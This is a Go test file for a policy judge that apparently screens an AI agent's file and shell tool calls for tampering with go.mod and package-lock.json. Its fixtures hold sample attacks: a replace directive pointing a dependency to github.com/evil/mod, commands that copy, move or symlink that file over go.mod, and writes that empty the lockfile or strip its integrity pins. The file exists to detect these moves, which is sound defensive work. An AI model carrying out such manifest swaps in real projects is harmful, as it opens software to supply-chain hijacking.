package judge_test

import (
	"os"
	"path/filepath"
	"testing"
)

// TestManifests_CopiesAndLinks: a file copied, moved, linked or installed
// over a manifest is judged as a write of the source's content (read
// through the workspace); a write through a symlink to a manifest is
// judged as the manifest's change; an emptied lockfile or one with fewer
// integrity pins is a checksum change. Putting back an identical copy,
// and copies of files no toolchain reads, pass.
func TestManifests_CopiesAndLinks(t *testing.T) {
	const gomod = "module x\n\ngo 1.22\n\nrequire golang.org/x/mod v0.1.0\n"
	lock := "{\n  \"name\": \"x\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"node_modules/zod\": {\n      \"version\": \"3.23.8\",\n      \"resolved\": \"https://registry.npmjs.org/zod/-/zod-3.23.8.tgz\",\n      \"integrity\": \"sha512-abc\"\n    }\n  }\n}\n"
	e, ws := manifestEvaluator(t, map[string]string{
		"go.mod":            gomod,
		"go.mod.bak":        gomod,
		"evil.mod":          gomod + "replace golang.org/x/mod => github.com/evil/mod v0.1.0\n",
		"package-lock.json": lock,
		"nolock.json":       "{\n  \"name\": \"x\",\n  \"lockfileVersion\": 3,\n  \"packages\": {}\n}\n",
		"notes.md":          "x",
	})
	if err := os.Symlink("go.mod", filepath.Join(ws, "link.txt")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ tool, args, want string }{
		{"execute_command", `{"command":"cp evil.mod go.mod"}`, "escalate supply-chain:source"},
		{"execute_command", `{"command":"mv evil.mod go.mod"}`, "escalate supply-chain:source"},
		{"execute_command", `{"command":"ln -sf evil.mod go.mod"}`, "escalate supply-chain:source"},
		{"execute_command", `{"command":"install -m 644 evil.mod go.mod"}`, "escalate supply-chain:source"},
		{"execute_command", `{"command":"cp /tmp/x go.mod"}`, "escalate supply-chain:unjudged"},
		{"execute_command", `{"command":"cp nolock.json package-lock.json"}`, "escalate supply-chain:checksum"},
		{"move_file", `{"from":"evil.mod","to":"go.mod"}`, "escalate supply-chain:source"},
		{"write_file", `{"path":"package-lock.json","content":"{}"}`, "escalate destructive:workspace-key-file"},
		{"write_file", `{"path":"package-lock.json","content":"{\n  \"name\": \"x\",\n  \"lockfileVersion\": 3,\n  \"packages\": {}\n}\n"}`, "escalate supply-chain:checksum"},
		{"write_file", `{"path":"go.mod","content":""}`, "escalate destructive:workspace-key-file"},
		{"write_file", `{"path":"link.txt","content":"module x\n\nreplace golang.org/x/mod => github.com/evil/mod v0.1.0\n"}`, "escalate supply-chain:source"},
		{"edit_file", `{"path":"link.txt","old":"go 1.22","new":"go 1.22\nreplace golang.org/x/mod => ../../../evil"}`, "escalate supply-chain:source"},
		{"execute_command", `{"command":"echo 'replace golang.org/x/mod => github.com/evil/mod v0.1.0' >> link.txt"}`, "escalate supply-chain:unjudged"},
		{"execute_command", `{"command":"cp go.mod.bak go.mod"}`, "allow policy:file-commands"},
		{"move_file", `{"from":"go.mod.bak","to":"go.mod"}`, "allow policy:workspace-edits"},
		{"execute_command", `{"command":"cp notes.md notes2.md"}`, "allow policy:file-commands"},
		{"execute_command", `{"command":"cp go.mod go.mod.orig"}`, "allow policy:file-commands"},
	} {
		p := withObserved(e, proposal(t, c.tool, c.args))
		if got := decided(e.Evaluate(t.Context(), p)); got != c.want {
			t.Errorf("%s %s: %s, want %s (observed %+v)", c.tool, c.args, got, c.want, p.Manifests)
		}
	}
}
